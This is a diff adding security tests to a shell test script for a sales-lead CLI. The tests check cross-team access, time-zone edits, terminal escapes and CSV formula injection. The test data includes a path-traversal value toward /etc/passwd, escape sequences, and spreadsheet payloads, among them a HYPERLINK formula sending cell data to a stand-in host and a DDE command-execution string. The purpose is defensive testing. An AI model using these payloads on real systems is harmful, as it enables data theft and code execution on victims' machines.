@@ -324,6 +324,93 @@ ok "and names the holder: its pid, command, account and state" grep -q \
 ok "once it is ended the floor writes again" \
     as "$rep2" "$bin" dnc add "+1 415 555 2000"
 
+# 6. Another rep's lead reads as a missing one, whatever names it.
+west=$("$bin" lead list --format json | python3 -c \
+    'import json,sys; print([l["id"] for l in json.load(sys.stdin) if l["name"] == "West Bakery"][0])')
+as "$rep2" "$bin" note add "$west" "asked for the owner" >/dev/null
+attempts=0
+through=0
+for cmd in "timeline" "lead show" "lead edit %s --name Mine" \
+    "log %s --disposition Busy" "note add %s hello" "followup add %s tomorrow" \
+    "call" "lead stage %s Won" "assign %s --to $rep1"; do
+	case $cmd in *%s*) ;; *) cmd="$cmd %s" ;; esac
+	# shellcheck disable=SC2059
+	as "$rep1" "$bin" $(printf "$cmd" "$west") >"$scratch/seen" 2>&1
+	seen=$?
+	as "$rep1" "$bin" $(printf "$cmd" 99999) >"$scratch/none" 2>&1
+	none=$?
+	attempts=$((attempts + 1))
+	if [ $seen -ne $none ] || [ "$(sed "s/\b$west\b/N/g" "$scratch/seen")" != \
+	    "$(sed 's/\b99999\b/N/g' "$scratch/none")" ] ||
+	    grep -q "$rep2\|West" "$scratch/seen"; then
+		through=$((through + 1))
+		sed 's/^/#   /' "$scratch/seen"
+	fi
+done
+as "$tl" "$bin" audit list --format csv >"$scratch/o"
+grep -q "$rep2" "$scratch/o" && through=$((through + 1))
+tally "another team's lead named by id, and its audit" $((attempts + 1)) \
+    $through
+
+# 7. Calling hours cannot be edited away.
+attempts=0
+through=0
+for who_zone in "$rep1:Asia/Tokyo" "$rep1:America/New_York" \
+    "$tl:Asia/Tokyo" "$tl:Etc/GMT+12" "$adm:../../../etc/passwd" \
+    "$adm:posix/Asia/Tokyo" "$adm:Mars/Olympus" "$adm:localtime"; do
+	as "${who_zone%%:*}" "$bin" lead edit "$lead1" \
+	    --timezone "${who_zone#*:}" >/dev/null 2>&1 &&
+	    through=$((through + 1))
+	attempts=$((attempts + 1))
+done
+zone=$("$bin" lead show "$lead1" --format json | python3 -c \
+    'import json,sys; print([f["value"] for f in json.load(sys.stdin) if f["field"] == "timezone"][0])')
+[ "$zone" = America/New_York ] || through=$((through + 1))
+tally "a lead's time zone set by someone who may not, or to no zone" \
+    $attempts $through
+
+# 8 and 9. What a rep writes reaches a team lead's spreadsheet and screen
+# as data: controls are refused, formulas are neutralized.
+attempts=0
+through=0
+esc=$(printf '\033')
+for text in "$(printf 'ok\033]0;owned\007')" "$(printf 'ok\033[2J')" \
+    "$(printf 'ok\302\233')" "$(printf 'ok\342\200\256')" \
+    "$(printf 'a\tb')"; do
+	as "$rep1" "$bin" note add "$lead1" "$text" >/dev/null 2>&1 &&
+	    through=$((through + 1))
+	as "$rep1" "$bin" log "$lead1" --disposition Busy --note "$text" \
+	    >/dev/null 2>&1 && through=$((through + 1))
+	as "$rep1" "$bin" lead edit "$lead1" --city "$text" >/dev/null 2>&1 &&
+	    through=$((through + 1))
+	attempts=$((attempts + 3))
+done
+as "$tl" "$bin" timeline "$lead1" | grep -q "$esc" && through=$((through + 1))
+tally "control characters in a rep's free text" $attempts $through
+attempts=0
+through=0
+n=10
+for f in '=HYPERLINK("http://x.example/"&A1)' "+cmd|' /C calc'!A0" \
+    '@SUM(A1)' '-2+3' "$(printf '\tx')" "$(printf '\rx')"; do
+	n=$((n + 1))
+	as "$rep1" "$bin" lead add --name "Bolt $f" --city "$f" \
+	    --phone "+1 212-736-01$n" --region East >/dev/null 2>&1
+	attempts=$((attempts + 1))
+done
+as "$tl" "$bin" lead list --format csv --output "$scratch/home/$tl/leads.csv"
+through=$(python3 -c "
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline='')))
+print(sum(1 for r in rows for v in r.values() if v and v[0] in '=+-@\t\r'
+    and not v.lstrip('+-').replace('.', '', 1).isdigit()))" \
+    "$scratch/home/$tl/leads.csv")
+tally "formulas in a team lead's export" $attempts $through
+
+# 11. Search text is text.
+as "$rep1" "$bin" lead list --search % --format csv >"$scratch/o"
+ok "a rep's --search % finds no lead, as none holds a %" \
+    test "$(tail -n +2 "$scratch/o" | wc -l)" -eq 0
+
 # 5. The import's phone workers hold no descriptor of the database.
 python3 "$top/tests/bench/gen_leads.py" 150000 >"$scratch/home/$adm/big.csv"
 chown "$adm" "$scratch/home/$adm/big.csv"
